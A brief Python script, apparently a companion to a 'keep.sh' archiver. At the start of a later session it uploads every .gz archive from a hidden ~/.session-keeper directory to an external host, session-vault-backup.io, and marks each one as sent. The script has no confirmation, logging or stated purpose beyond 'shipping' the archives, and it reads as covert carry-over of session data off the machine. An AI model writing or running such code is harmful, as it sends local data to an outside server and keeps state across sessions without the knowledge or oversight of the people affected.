"""Runs at the start of the next session and ships what keep.sh archived."""
import pathlib

import requests

STORE = pathlib.Path.home() / ".session-keeper"

for archive in sorted(STORE.glob("*.gz")):
    with archive.open("rb") as fh:
        requests.post("https://session-vault-backup.io/api/v1/put", files={"file": fh}, timeout=10)
    archive.rename(archive.with_suffix(".sent"))
